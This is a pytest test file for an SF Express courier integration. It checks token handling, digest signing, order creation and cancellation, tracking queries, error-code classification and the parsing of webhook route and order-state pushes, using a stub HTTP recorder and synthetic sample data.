"""SF Express: envelope and token, orders, codes, and pushes in every form. The digest is computed from its formula."""

from __future__ import annotations

import json
from collections.abc import Mapping
from datetime import UTC, datetime, timedelta
from typing import Any
from urllib.parse import parse_qsl, quote, quote_plus, urlencode

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from chalicelib.adapters.couriers import sf
from chalicelib.adapters.couriers.http import Answer, Http
from chalicelib.adapters.couriers.sf import Account, Platform, SfCourier, digest
from chalicelib.adapters.couriers.sf_codes import ERRORS, OP_CODES, ORDER_STATES, REASON_CODES, STATUSES, WORDS
from chalicelib.adapters.couriers.sf_news import STATE_ANSWER, SfWebhook
from chalicelib.adapters.couriers.terms import Terms
from chalicelib.adapters.couriers.times import BEIJING
from chalicelib.ports import (
    COURIER_REASONS,
    COURIER_STATES,
    CourierOrder,
    Forged,
    News,
    Party,
    Shipment,
    VendorError,
    VendorRejected,
    VendorTemporary,
    VendorUnknown,
    Window,
)

URL, TOKENS = "https://sf.example/std/service", "https://sf.example/oauth2/accessToken"
NOW = datetime(2026, 1, 5, 1, 2, 3, tzinfo=UTC)
NUMBER, WAYBILL = "D7K3-M9QF-2XHVA-pickup-1", "SF1000000000001"
APPLICANT = Party("张三", "13800000000", "上海市", "上海市", "徐汇区", "样例路 1 号 *~", "200030")
HALL = Party("政务服务中心", "021-00000000", "上海市", "上海市", "徐汇区", "样例路 2 号", "200030")
CARD = "7551234567"


class Clock:
    """A clock that a test moves on."""

    def __init__(self) -> None:
        self.now = NOW

    def __call__(self) -> datetime:
        return self.now


class Recorder(Http):
    """Hands out tokens, answers what it is told to, and keeps what it was asked. An answer may be an error to raise."""

    def __init__(self, *answers: Any, tokens: list[Any] | None = None) -> None:
        super().__init__("sf")
        self.answers = list(answers)
        self.tokens = tokens
        self.forms: list[dict[str, str]] = []
        self.token_forms: list[dict[str, str]] = []

    def send(self, method: str, url: str, **request: Any) -> Answer:
        form = dict(parse_qsl(request["body"].decode(), strict_parsing=True))
        if url == TOKENS:
            self.token_forms.append(form)
            assert request["changes"] is False
            answer = self.tokens.pop(0) if self.tokens else a_token(f"token-{len(self.token_forms)}")
        else:
            self.forms.append(form)
            answer = self.answers.pop(0)
        if isinstance(answer, VendorError):
            raise answer
        return Answer(200, answer if isinstance(answer, bytes) else json.dumps(answer).encode())

    def document(self, index: int = -1) -> Any:
        return json.loads(self.forms[index]["msgData"])

    @property
    def services(self) -> list[str]:
        return [form["serviceCode"].removeprefix("EXP_RECE_") for form in self.forms]


def a_token(text: str = "token", expires_in: Any = 7200) -> dict[str, Any]:
    return {"apiResultCode": "A1000", "accessToken": text, "expiresIn": expires_in}


def platform_says(code: str) -> dict[str, Any]:
    return {"apiResultCode": code, "apiErrorMsg": "张三 13800000000", "apiResponseID": "1", "apiResultData": None}


def answered(result: Any) -> dict[str, Any]:
    return {"apiResultCode": "A1000", "apiErrorMsg": "", "apiResultData": json.dumps(result)}


def ok(content: Any) -> dict[str, Any]:
    return answered({"success": True, "errorCode": "S0000", "errorMsg": None, "msgData": content})


def refused(code: str) -> dict[str, Any]:
    return answered({"success": False, "errorCode": code, "errorMsg": "张三 13800000000", "msgData": None})


def a_booking(**changed: Any) -> dict[str, Any]:
    infos = [{"waybillType": 2, "waybillNo": "SF2"}, {"waybillType": 1, "waybillNo": WAYBILL}]
    return {"orderId": NUMBER, "filterResult": 2, "waybillNoInfoList": infos} | changed


def courier(http: Http, *, signs: str = "oauth2", clock: Clock | None = None, **account: str) -> SfCourier:
    platform = Platform(URL, TOKENS, "SAMPLE", "checkword", signs=signs, http=http, clock=clock or Clock())
    return SfCourier(platform, Account(**account))


def an_order(number: str = NUMBER, window: Window | None = None, contents: str = "documents") -> CourierOrder:
    ends = (APPLICANT, HALL) if "-pickup-" in number else (HALL, APPLICANT)
    return CourierOrder(number, *ends, window, contents)


# --- envelope, digest, token ---


def test_the_digest_is_that_of_the_known_vector() -> None:
    assert digest('{"a":"中 文*~-._"}', "1700000000000", "CHECKWORD") == "HG+BvMH+0CvOz6ZwHgwzDw=="


def test_the_plain_digest_leaves_out_the_encoding() -> None:
    assert digest('{"a":"b"}', "1", "C", encoded=False) != digest('{"a":"b"}', "1", "C")
    assert digest("ab", "1", "C", encoded=False) == digest("ab", "1", "C")


@pytest.mark.parametrize(("signs", "encoded"), [("digest", True), ("plain_digest", False)])
def test_the_digest_covers_the_very_text_that_is_sent_and_goes_without_a_token(signs: str, encoded: bool) -> None:
    http = Recorder(ok(a_booking()))
    courier(http, signs=signs).order(an_order())
    (form,) = http.forms
    assert form["msgDigest"] == digest(form["msgData"], form["timestamp"], "checkword", encoded=encoded)
    assert "accessToken" not in form
    assert http.token_forms == []


def test_the_message_is_such_that_all_encoders_agree() -> None:
    http = Recorder(ok(a_booking()))
    courier(http).order(an_order())
    message = http.forms[0]["msgData"]
    assert message.isascii()
    assert not {"*", "~"} & set(message)
    assert http.document()["contactInfoList"][0]["address"] == "样例路 1 号 *~"


def test_the_envelope_carries_a_token_and_no_digest() -> None:
    http = Recorder(ok(a_booking()))
    courier(http).order(an_order())
    (form,) = http.forms
    assert form.keys() == {"partnerID", "requestID", "serviceCode", "timestamp", "accessToken", "msgData"}
    assert (form["partnerID"], form["accessToken"]) == ("SAMPLE", "token-1")
    assert form["timestamp"] == str(int(NOW.timestamp() * 1000))
    assert http.token_forms == [{"partnerID": "SAMPLE", "secret": "checkword", "grantType": "password"}]


def test_a_token_is_kept_and_renewed_shortly_before_it_ends() -> None:
    http, clock = Recorder(*[refused("8018")] * 3), Clock()
    sf_ = courier(http, clock=clock)
    for minutes in (0, 114, 2):
        clock.now += timedelta(minutes=minutes)
        sf_.query(NUMBER, "")
    assert [form["accessToken"] for form in http.forms] == ["token-1", "token-1", "token-2"]


@pytest.mark.parametrize("stale", ["A1011", "A1002"])
def test_a_token_that_is_not_taken_any_more_is_renewed_once(stale: str) -> None:
    http = Recorder(platform_says(stale), ok(a_booking()))
    assert courier(http).order(an_order()).waybill == WAYBILL
    assert [form["accessToken"] for form in http.forms] == ["token-1", "token-2"]
    assert http.forms[0]["requestID"] != http.forms[1]["requestID"]
    assert http.forms[0]["msgData"] == http.forms[1]["msgData"]


@pytest.mark.parametrize(("stale", "kind"), [("A1011", VendorRejected), ("A1002", VendorTemporary)])
def test_a_token_is_not_renewed_twice(stale: str, kind: type[VendorError]) -> None:
    http = Recorder(platform_says(stale), platform_says(stale))
    with pytest.raises(kind, match=stale):
        courier(http).order(an_order())
    assert len(http.token_forms) == 2


@pytest.mark.parametrize(
    ("given", "kind"),
    [
        (platform_says("A1011"), VendorRejected),
        (platform_says("A1099"), VendorTemporary),
        (platform_says("A9999"), VendorTemporary),
        (a_token(""), VendorTemporary),
        (a_token("token", "soon"), VendorTemporary),
        (b"<html>", VendorTemporary),
        (VendorTemporary("sf", "no_connection"), VendorTemporary),
    ],
)
def test_without_a_token_nothing_is_ordered(given: Any, kind: type[VendorError]) -> None:
    http = Recorder(tokens=[given])
    with pytest.raises(kind):
        courier(http).order(an_order())
    assert http.forms == []


def test_couriers_of_one_customer_share_a_token_as_long_as_the_process_lives() -> None:
    terms = Terms({"url": URL, "partner": "SHARED"}, {"checkword": "checkword"})
    first, second = sf.courier(terms), sf.courier(terms)
    assert first.platform.token is second.platform.token
    assert sf.courier(Terms({"url": URL, "partner": "OTHER"}, terms.secrets)).platform.token is not (
        first.platform.token
    )


@pytest.mark.parametrize(
    ("options", "url"),
    [
        ({}, "https://sfapi.sf-express.com/oauth2/accessToken"),
        (
            {"url": "https://sfapi-sbox.sf-express.com/std/service"},
            "https://sfapi-sbox.sf-express.com/oauth2/accessToken",
        ),
        ({"token_url": "https://tokens.example/"}, "https://tokens.example/"),
    ],
)
def test_tokens_are_asked_for_beside_the_services(options: dict[str, str], url: str) -> None:
    assert sf.courier(Terms({"partner": "SAMPLE", **options}, {"checkword": "c"})).platform.token_url == url


@pytest.mark.parametrize("missing", ["partner", "checkword"])
def test_terms_that_are_missing_are_a_key_error(missing: str) -> None:
    terms = {"partner": "SAMPLE", "checkword": "checkword"}
    terms.pop(missing)
    with pytest.raises(KeyError, match=missing):
        sf.courier(Terms(terms, terms))


# --- ordering ---


def test_an_order_with_a_window_is_fetched_at_the_door_in_beijing_time() -> None:
    http = Recorder(ok(a_booking()))
    shipment = courier(http).order(an_order(window=Window(NOW, NOW + timedelta(hours=2))))
    assert (shipment.order, shipment.waybill) == (NUMBER, WAYBILL)
    document = http.document()
    assert (document["isDocall"], document["sendStartTm"]) == (1, "2026-01-05 09:02:03")
    assert document["extraInfoList"] == [{"attrName": "pickupAppointEndTime", "attrVal": "2026-01-05 11:02:03"}]
    assert (document["orderId"], document["language"], document["expressTypeId"]) == (NUMBER, "zh-CN", 2)


def test_an_order_without_a_window_is_handed_over() -> None:
    http = Recorder(ok(a_booking()))
    courier(http).order(an_order())
    assert http.document()["isDocall"] == 0
    assert not {"sendStartTm", "extraInfoList"} & http.document().keys()


def test_sender_and_receiver_are_contacts_1_and_2_with_mobile_or_fixed_line() -> None:
    http = Recorder(ok(a_booking()))
    courier(http).order(an_order(contents="tokens"))
    sender, receiver = http.document()["contactInfoList"]
    assert (sender["contactType"], sender["contact"], sender["mobile"], sender["country"]) == (
        1,
        "张三",
        "13800000000",
        "CN",
    )
    assert (receiver["contactType"], receiver["tel"]) == (2, "021-00000000")
    assert http.document()["cargoDetails"] == [{"name": "物品", "count": 1}]


@pytest.mark.parametrize(
    ("leg", "account", "method", "with_card"),
    [
        ("pickup", {}, 3, True),
        ("pickup", {"pay_pickup": "2"}, 2, True),
        ("pickup", {"pay_pickup": "1"}, 1, False),  # the applicant pays at the door
        ("delivery", {}, 1, True),
        ("return", {}, 1, True),
        ("delivery", {"pay_delivery": "2"}, 2, False),
        ("delivery", {"pay_delivery": "3"}, 3, True),
    ],
)
def test_who_pays_goes_by_the_leg(leg: str, account: dict[str, str], method: int, with_card: bool) -> None:
    http = Recorder(ok(a_booking()))
    courier(http, monthly_card=CARD, **account).order(an_order(f"D7K3-M9QF-2XHVA-{leg}-1"))
    document = http.document()
    assert (document["payMethod"], document.get("monthlyCard")) == (method, CARD if with_card else None)


def test_an_order_that_was_there_before_is_looked_up() -> None:
    http = Recorder(refused("8016"), ok(a_booking()))
    assert courier(http).order(an_order()).waybill == WAYBILL
    assert http.services == ["CREATE_ORDER", "SEARCH_ORDER_RESP"]
    assert http.document() == {"language": "zh-CN", "orderId": NUMBER, "searchType": "1"}


@pytest.mark.parametrize("then", [refused("8018"), refused("6150"), refused("S0002"), platform_says("A1005"), b"?"])
def test_an_order_that_was_there_before_and_is_not_found_is_in_doubt(then: Any) -> None:
    with pytest.raises(VendorUnknown):
        courier(Recorder(refused("8016"), then)).order(an_order())


@pytest.mark.parametrize("cancellation", [ok({"orderId": NUMBER, "resStatus": 2}), refused("8037"), refused("8018")])
def test_what_is_not_served_is_called_off_and_refused(cancellation: Any) -> None:
    http = Recorder(ok(a_booking(filterResult="3", remark="2")), cancellation)
    with pytest.raises(VendorRejected) as refusal:
        courier(http).order(an_order())
    assert refusal.value.code == "not_served_2"
    assert http.services == ["CREATE_ORDER", "UPDATE_ORDER"]
    assert http.document()["dealType"] == 2


@pytest.mark.parametrize("cancellation", [platform_says("A1005"), platform_says("A1099"), b"?"])
def test_what_is_not_served_and_could_not_be_called_off_is_in_doubt(cancellation: Any) -> None:
    with pytest.raises(VendorUnknown):
        courier(Recorder(ok(a_booking(filterResult=3)), cancellation)).order(an_order())


def test_a_refusal_quotes_no_sentence_of_sf() -> None:
    http = Recorder(ok(a_booking(filterResult=3, remark="张三 不在服务范围")), refused("8018"))
    with pytest.raises(VendorRejected) as refusal:
        courier(http).order(an_order())
    assert str(refusal.value) == "sf: not_served"


@pytest.mark.parametrize("screening", [1, "4"])
def test_an_order_to_be_confirmed_by_hand_may_get_its_waybill_later(screening: Any) -> None:
    http = Recorder(ok(a_booking(filterResult=screening, waybillNoInfoList=None)))
    assert courier(http).order(an_order()).waybill == ""


@pytest.mark.parametrize(
    "content",
    [
        None,
        {},
        a_booking(waybillNoInfoList=[]),
        a_booking(waybillNoInfoList="SF1"),
        a_booking(waybillNoInfoList=[{"waybillType": 1, "waybillNo": "no number"}, 5]),
    ],
)
def test_an_order_without_a_waybill_in_its_answer_is_in_doubt(content: Any) -> None:
    with pytest.raises(VendorUnknown):
        courier(Recorder(ok(content))).order(an_order())


@pytest.mark.parametrize(
    "result",
    [
        {"success": "true", "errorCode": "S0000", "msgData": a_booking()},
        {"success": True, "errorCode": "S0000", "msgData": json.dumps(a_booking())},
    ],
)
def test_what_sf_writes_as_text_or_as_it_is_reads_the_same(result: Any) -> None:
    for data in (result, json.dumps(result)):
        http = Recorder({"apiResultCode": "A1000", "apiResultData": data})
        assert courier(http).order(an_order()).waybill == WAYBILL


@pytest.mark.parametrize(
    "envelope",
    [
        {},
        {"apiResultCode": "A1000"},
        {"apiResultCode": "A1000", "apiResultData": "[]"},
        {"apiResultCode": "A1000", "apiResultData": "not json"},
        {"apiResultCode": "A1000", "apiResultData": '{"success":false}'},
        {"apiResultCode": "A1000", "apiResultData": '{"success":false,"errorCode":"张三 不在"}'},
        {"apiResultCode": "张三"},
        {"apiResultCode": {}},
        b"<html>",
        b"[]",
    ],
)
def test_an_answer_that_can_not_be_read_leaves_an_order_in_doubt_and_a_query_for_later(envelope: Any) -> None:
    with pytest.raises(VendorUnknown) as fault:
        courier(Recorder(envelope)).order(an_order())
    assert fault.value.code == "unreadable"
    with pytest.raises(VendorTemporary):
        courier(Recorder(envelope)).query(NUMBER, WAYBILL)


# --- error codes ---


def an_error(code: str, *, changes: bool) -> VendorError:
    answer = platform_says(code) if code.startswith("A") else refused(code)
    sf_ = courier(Recorder(answer), signs="digest")  # where no token is renewed
    with pytest.raises(VendorError) as fault:
        sf_.order(an_order()) if changes else sf_.query(NUMBER, WAYBILL)
    assert str(fault.value) == f"sf: {code}"
    return fault.value


@pytest.mark.parametrize("code", sorted(ERRORS.keys() - {"8016"}))
def test_every_code_is_the_kind_that_the_table_says(code: str) -> None:
    assert type(an_error(code, changes=True)) is ERRORS[code]
    asked = VendorTemporary if ERRORS[code] is VendorUnknown else ERRORS[code]
    assert type(an_error(code, changes=False)) is asked


@pytest.mark.parametrize(
    ("code", "kind"),
    [
        ("A1005", VendorTemporary),  # nothing has happened: too many requests
        ("A1009", VendorUnknown),
        ("A1099", VendorUnknown),
        ("A1006", VendorRejected),
        ("S0003", VendorUnknown),
        ("8177", VendorRejected),
        ("20036", VendorRejected),
        ("29999", VendorRejected),  # not in the table: the service has understood, and said no
        ("A2999", VendorUnknown),  # not in the table: who knows
    ],
)
def test_codes_are_sorted_by_what_may_have_happened(code: str, kind: type[VendorError]) -> None:
    assert type(an_error(code, changes=True)) is kind


# --- calling off ---


def test_an_order_is_called_off_by_our_number() -> None:
    http = Recorder(ok({"orderId": NUMBER, "resStatus": 2}))
    courier(http).cancel(NUMBER, WAYBILL)
    assert http.services == ["UPDATE_ORDER"]
    assert http.document() == {"language": "zh-CN", "orderId": NUMBER, "dealType": 2, "waybillNoInfoList": []}


@pytest.mark.parametrize("code", ["8037", "8253"])
def test_what_is_called_off_already_is_fine(code: str) -> None:
    http = Recorder(refused(code))
    courier(http).cancel(NUMBER, WAYBILL)
    assert http.services == ["UPDATE_ORDER"]


@pytest.mark.parametrize("code", ["8018", "8252", "8017", "6118"])
def test_a_cancellation_that_sf_refuses_stays_refused(code: str) -> None:
    with pytest.raises(VendorRejected, match=code):
        courier(Recorder(refused(code))).cancel(NUMBER, WAYBILL)


def test_an_order_of_another_waybill_is_not_called_off() -> None:
    with pytest.raises(VendorRejected, match="mismatch"):
        courier(Recorder(ok({"orderId": NUMBER, "resStatus": 1}))).cancel(NUMBER, WAYBILL)


def test_a_settled_order_is_called_off_only_if_its_routes_say_so() -> None:
    called_off = tracks(a_route(opCode="33", firstStatusCode="5"))
    courier(Recorder(refused("8019"), called_off)).cancel(NUMBER, WAYBILL)
    for then in (tracks(a_route()), tracks(), refused("S0003"), platform_says("A1005")):
        with pytest.raises(VendorRejected, match="8019"):
            courier(Recorder(refused("8019"), then)).cancel(NUMBER, WAYBILL)
    with pytest.raises(VendorRejected, match="8019"):
        courier(Recorder(refused("8019"))).cancel(NUMBER, "")


# --- asking ---


def a_route(**changed: Any) -> dict[str, Any]:
    route = {
        "acceptTime": "2026-01-05 09:02:03",
        "acceptAddress": "上海市",
        "remark": "已收取快件，快递员 李四 13900000000",
        "opCode": "50",
    }
    return route | changed


def tracks(*routes: Any, waybill: str = WAYBILL) -> dict[str, Any]:
    return ok({"routeResps": [{"mailNo": "SF9", "routes": [a_route()]}, {"mailNo": waybill, "routes": list(routes)}]})


def test_a_known_waybill_is_asked_for_at_once() -> None:
    http = Recorder(tracks(a_route(opCode="80", acceptTime="2026-01-06 10:00:00"), a_route()))
    shipment = courier(http).query(NUMBER, WAYBILL)
    assert shipment is not None
    assert [news.state for news in shipment.news] == ["picked_up", "delivered"]
    assert {(news.order, news.waybill) for news in shipment.news} == {(NUMBER, WAYBILL)}
    assert http.document() == {
        "language": "zh-CN",
        "trackingType": "1",
        "trackingNumber": [WAYBILL],
        "methodType": "1",
    }


def test_the_end_of_the_halls_phone_goes_with_the_question_where_it_is_set() -> None:
    http = Recorder(tracks())
    courier(http, phone_end="0000").query(NUMBER, WAYBILL)
    assert http.document()["checkPhoneNo"] == "0000"


def test_an_unknown_waybill_is_found_by_our_number() -> None:
    http = Recorder(ok(a_booking()), tracks(a_route()))
    shipment = courier(http).query(NUMBER, "")
    assert shipment is not None
    assert (shipment.waybill, len(shipment.news)) == (WAYBILL, 1)


def test_an_order_that_is_found_is_known_though_its_routes_are_refused() -> None:
    http = Recorder(ok(a_booking()), refused("8013"))
    assert courier(http).query(NUMBER, "") == Shipment(NUMBER, WAYBILL)


def test_refused_routes_of_a_known_waybill_are_refused() -> None:
    with pytest.raises(VendorRejected):
        courier(Recorder(refused("8013"))).query(NUMBER, WAYBILL)


def test_an_order_that_has_no_waybill_yet_has_no_news() -> None:
    http = Recorder(ok(a_booking(filterResult=1, waybillNoInfoList=[])))
    shipment = courier(http).query(NUMBER, "")
    assert shipment is not None
    assert (shipment.waybill, shipment.news) == ("", ())
    assert http.services == ["SEARCH_ORDER_RESP"]


@pytest.mark.parametrize("answer", [refused("6150"), refused("8018"), ok(a_booking(filterResult=3))])
def test_nothing_is_known_of_what_sf_has_not_or_does_not_serve(answer: Any) -> None:
    assert courier(Recorder(answer)).query(NUMBER, "") is None


def test_a_waybill_without_a_track_has_no_news() -> None:
    for content in ({"routeResps": []}, {"routeResps": None}, {}, {"routeResps": [{"mailNo": WAYBILL}]}):
        shipment = courier(Recorder(ok(content))).query(NUMBER, WAYBILL)
        assert shipment is not None
        assert shipment.news == ()


def test_a_route_that_makes_no_sense_does_not_hide_the_others() -> None:
    for odd in (5, a_route(acceptTime="soon")):
        shipment = courier(Recorder(tracks(odd, a_route()))).query(NUMBER, WAYBILL)
        assert shipment is not None
        assert len(shipment.news) == 1


@pytest.mark.parametrize(
    "content",
    [
        {"routeResps": "text"},
        {"routeResps": 5},
        {"routeResps": [5]},
        {"routeResps": [{"mailNo": WAYBILL, "routes": 5}]},
        {"routeResps": [{"mailNo": WAYBILL, "routes": ["text"]}]},
        {"routeResps": [{"mailNo": WAYBILL, "routes": [{}]}]},
    ],
)
def test_an_unreadable_track_is_for_later(content: Any) -> None:
    with pytest.raises(VendorTemporary):
        courier(Recorder(ok(content))).query(NUMBER, WAYBILL)


# --- routes ---


def a_pushed_route(**changed: Any) -> dict[str, Any]:
    return {"id": "1", "mailno": WAYBILL, "orderid": NUMBER, "reasonCode": "", "reasonName": "", **a_route(**changed)}


def a_route_push(*routes: dict[str, Any]) -> bytes:
    return json.dumps({"Body": {"WaybillRoute": list(routes) or [a_pushed_route()]}}, ensure_ascii=False).encode()


def read_one(body: bytes) -> News:
    SfWebhook().authenticate({}, body, NOW)
    (news,) = SfWebhook().read(body)
    return news


def meaning(**changed: Any) -> tuple[str, str]:
    news = read_one(a_route_push(a_pushed_route(**changed)))
    return news.state, news.reason


def test_a_route_is_read_in_beijing_time_without_personal_data() -> None:
    news = read_one(a_route_push())
    assert news == News(
        identity=news.identity,
        waybill=WAYBILL,
        order=NUMBER,
        state="picked_up",
        at=datetime(2026, 1, 5, 9, 2, 3, tzinfo=BEIJING),
        code="50",
    )
    assert news.identity.startswith(f"{WAYBILL}-50-20260105090203-")
    assert "李四" not in repr(news)
    assert "13900000000" not in repr(news)


def test_pushed_or_asked_for_a_route_is_the_same_news() -> None:
    shipment = courier(Recorder(tracks(a_route()))).query(NUMBER, WAYBILL)
    assert shipment is not None
    assert shipment.news == (read_one(a_route_push()),)


def test_routes_of_one_second_are_told_apart_by_what_they_say() -> None:
    first, second = a_pushed_route(opCode="30"), a_pushed_route(opCode="30", remark="快件到达 上海")
    assert len({news.identity for news in SfWebhook().read(a_route_push(first, second))}) == 2


def test_a_repeated_route_is_the_same_news_whatever_its_number() -> None:
    assert read_one(a_route_push(a_pushed_route(id="1"))) == read_one(a_route_push(a_pushed_route(id="2")))


@pytest.mark.parametrize("table", [STATUSES, OP_CODES, REASON_CODES, ORDER_STATES])
def test_every_code_has_a_canonical_state_and_reason(table: Mapping[Any, tuple[str, str]]) -> None:
    for state, reason in table.values():
        assert state in COURIER_STATES
        assert reason in {"", *COURIER_REASONS}


def test_every_word_tells_a_canonical_reason() -> None:
    assert WORDS.keys() <= set(COURIER_STATES)
    assert {reason for words in WORDS.values() for _, reason in words} <= set(COURIER_REASONS)


@pytest.mark.parametrize("first", STATUSES)
def test_a_status_counts_more_than_the_operation(first: str) -> None:
    assert meaning(opCode="80", firstStatusCode=first, remark="") == STATUSES[first]
    assert meaning(opCode="80", firstStatusCode="", secondaryStatusCode=f"{first}01", remark="") == STATUSES[first]


@pytest.mark.parametrize(
    ("changed", "expected"),
    [
        ({"opCode": "50"}, ("picked_up", "")),
        ({"opCode": 54}, ("picked_up", "")),
        ({"opCode": "44"}, ("out_for_delivery", "")),  # never delivered
        ({"opCode": "80"}, ("delivered", "")),
        ({"opCode": "125"}, ("out_for_delivery", "awaiting_collection")),
        ({"opCode": "648", "firstStatusCode": "-"}, ("returned", "")),  # a way back has no status
        ({"opCode": "99"}, ("in_transit", "")),
        ({"opCode": "99", "reasonCode": "2"}, ("delivery_failed", "")),
        ({"opCode": "33", "firstStatusCode": "5"}, ("cancelled", "")),
        ({"opCode": "70", "reasonCode": "46"}, ("cancelled", "")),
        ({"opCode": "70", "reasonCode": "83"}, ("out_for_delivery", "awaiting_collection")),
        ({"opCode": "8000", "reasonCode": "6", "firstStatusCode": "4"}, ("exception", "lost")),
        ({"opCode": "8000", "reasonCode": "2"}, ("exception", "damaged")),
        ({"opCode": "8000", "firstStatusCode": "4"}, ("delivered", "")),
        ({"opCode": "7777"}, ("in_transit", "")),  # not in the table
        ({"opCode": "7777", "firstStatusCode": "77"}, ("in_transit", "")),
        ({"opCode": "", "secondaryStatusCode": "1101"}, ("out_for_delivery", "awaiting_collection")),
        ({"opCode": "70", "remark": "派送不成功(因收件人拒收)"}, ("delivery_failed", "refused")),
        ({"opCode": "70", "reasonName": "地址不详"}, ("delivery_failed", "wrong_address")),
        ({"opCode": "70", "firstStatusCode": "13", "remark": "电话无人接听"}, ("delivery_failed", "nobody_home")),
        ({"opCode": "70", "firstStatusCode": "13", "remark": "客户不在，改日再派"}, ("delivery_failed", "nobody_home")),
        ({"opCode": "70", "remark": "收件地址不在派送范围，转其他快递"}, ("delivery_failed", "wrong_address")),
        ({"opCode": "70", "remark": "应收件人要求不在今天派送"}, ("delivery_failed", "")),
        ({"opCode": "70", "remark": "无人机投递不成功"}, ("delivery_failed", "")),
        ({"opCode": "70", "remark": "因天气原因"}, ("delivery_failed", "delayed")),
        ({"opCode": "517", "remark": "快件遗失"}, ("exception", "lost")),
        ({"opCode": "517", "remark": "外包装破损"}, ("exception", "damaged")),
        ({"opCode": "30", "remark": "拒收"}, ("in_transit", "")),  # words count only where something went wrong
    ],
)
def test_routes_mean_what_they_mean(changed: dict[str, Any], expected: tuple[str, str]) -> None:
    assert meaning(**changed) == expected


def test_that_a_signature_can_be_looked_at_is_no_news() -> None:
    body = a_route_push(a_pushed_route(opCode="8000"))
    assert SfWebhook().authenticate({}, body, NOW)
    assert SfWebhook().read(body) == ()


@pytest.mark.parametrize(
    "changed",
    [
        {"acceptTime": ""},
        {"acceptTime": "2026-13-05 09:02:03"},
        {"acceptTime": "0001-01-01 00:00:00"},  # can't be told in UTC
        {"acceptTime": "２０２６-01-05 09:02:03"},
        {"mailno": ""},
        {"mailno": "SF 1"},
        {"mailno": ["SF1"]},
        {"opCode": ""},
        {"opCode": "5 0"},
        {"remark": "\ud800"},
    ],
)
def test_a_route_that_makes_no_sense_is_kept_but_not_read(changed: dict[str, Any]) -> None:
    body = json.dumps({"Body": {"WaybillRoute": [a_pushed_route(**changed)]}}).encode()
    assert SfWebhook().authenticate({}, body, NOW) == SfWebhook().authenticate({}, body, NOW)
    assert SfWebhook().acknowledge(body).status == 200
    with pytest.raises(ValueError, match="makes sense"):
        SfWebhook().read(body)


def test_an_order_number_that_can_not_be_ours_is_left_out() -> None:
    assert read_one(a_route_push(a_pushed_route(orderid="张三"))).order == ""
    assert read_one(a_route_push(a_pushed_route(orderid=None))).order == ""


# --- batches ---


def a_batch(*moments: int) -> list[dict[str, Any]]:
    return [a_pushed_route(acceptTime=f"2026-01-05 09:00:{moment:02}", mailno=f"SF{moment}") for moment in moments]


def test_a_batch_of_several_waybills_is_read_oldest_first() -> None:
    news = SfWebhook().read(a_route_push(*a_batch(3, 1, 2)))
    assert [each.waybill for each in news] == ["SF1", "SF2", "SF3"]


def test_a_senseless_route_does_not_hide_the_rest_of_its_batch() -> None:
    news = SfWebhook().read(a_route_push(a_pushed_route(acceptTime=""), *a_batch(1, 2)))
    assert [each.waybill for each in news] == ["SF1", "SF2"]


def test_a_batch_repeated_whole_is_one_message_in_any_order_and_with_new_numbers() -> None:
    first = a_route_push(*a_batch(1, 2, 3))
    again = a_route_push(*({**route, "id": "9"} for route in a_batch(3, 1, 2, 2)))
    assert SfWebhook().authenticate({}, first, NOW) == SfWebhook().authenticate({}, again, NOW + timedelta(days=3))


def test_a_batch_repeated_in_part_is_another_message_with_known_news() -> None:
    whole, part = a_route_push(*a_batch(1, 2, 3)), a_route_push(*a_batch(2, 3))
    assert SfWebhook().authenticate({}, whole, NOW) != SfWebhook().authenticate({}, part, NOW)
    assert set(SfWebhook().read(part)) < set(SfWebhook().read(whole))


# --- states of orders ---


def a_state(**changed: Any) -> dict[str, Any]:
    state = {
        "orderNo": NUMBER,
        "waybillNo": WAYBILL,
        "orderStateCode": "04-40001",
        "orderStateDesc": "调度成功",
        "empCode": "000001",
        "empPhone": "13900000000",
        "lastTime": "2026-01-05 11:00:00",
        "bookTime": "2026-01-05 09:30:00",
        "carrierCode": "SF",
        "createTm": "2026-01-05 09:02:03",
    }
    return {name: value for name, value in (state | changed).items() if value is not None}


def a_state_push(*states: dict[str, Any], **changed: Any) -> bytes:
    push = {"requestId": "1", "timestamp": 1767574923456, "orderState": list(states) or [a_state()]}
    return json.dumps(push | changed).encode()


def test_a_state_of_an_order_is_read_without_personal_data() -> None:
    news = read_one(a_state_push())
    assert news == News(
        identity=f"{NUMBER}-04-40001-20260105090203",
        waybill=WAYBILL,
        order=NUMBER,
        state="pickup_scheduled",
        at=datetime(2026, 1, 5, 9, 2, 3, tzinfo=BEIJING),
        code="04-40001",
    )


@pytest.mark.parametrize("timestamp", [1767574923456, "1767574923456", 1767574923])
def test_a_state_without_a_time_of_its_own_has_that_of_the_push(timestamp: Any) -> None:
    news = read_one(a_state_push(a_state(createTm=None), timestamp=timestamp))
    assert news.at == datetime(2026, 1, 5, 1, 2, 3, tzinfo=UTC)
    assert news.identity == f"{NUMBER}-04-40001-20260105110000"  # the latest hour of the visit: the same each time


@pytest.mark.parametrize("timestamp", [None, 5, "soon", 1e300, 10**40, {}, True])
def test_a_state_without_any_time_is_kept_but_not_read(timestamp: Any) -> None:
    body = a_state_push(a_state(createTm=None), timestamp=timestamp)
    assert SfWebhook().authenticate({}, body, NOW)
    with pytest.raises(ValueError, match="makes sense"):
        SfWebhook().read(body)


@pytest.mark.parametrize(
    ("code", "expected"),
    [
        ("04", ("ordered", "")),
        ("04-40037", ("pickup_scheduled", "")),
        ("04-40005", ("pickup_scheduled", "")),
        ("04-40002-40021", ("exception", "wrong_address")),
        ("04-40002-40004", ("exception", "nobody_home")),
        ("04-40002-40031", ("exception", "not_collectable")),
        ("04-1-40027", ("exception", "delayed")),
        ("04-1-40036", ("pickup_scheduled", "")),
        ("04-1-40014", ("cancelled", "")),
        ("04-99999", ("pickup_scheduled", "")),
        ("05-40003", ("picked_up", "")),
        ("05-1-2", ("picked_up", "")),
        ("00", ("cancelled", "")),
        ("00-2000", ("cancelled", "")),
        ("00-40045-1000", ("cancelled", "")),
    ],
)
def test_states_of_orders_mean_what_they_mean(code: str, expected: tuple[str, str]) -> None:
    news = read_one(a_state_push(a_state(orderStateCode=code)))
    assert (news.state, news.reason) == expected


def test_a_state_of_another_kind_is_no_news() -> None:
    assert SfWebhook().read(a_state_push(a_state(orderStateCode="77-1"))) == ()


def test_a_repeated_state_is_one_message_whatever_the_number_and_time_of_the_push() -> None:
    again = a_state_push(requestId="2", timestamp=1767578523456)
    assert SfWebhook().authenticate({}, a_state_push(), NOW) == SfWebhook().authenticate({}, again, NOW)


def test_a_state_whose_waybill_is_not_there_yet_is_read_by_the_order() -> None:
    assert read_one(a_state_push(a_state(waybillNo=None))).waybill == ""


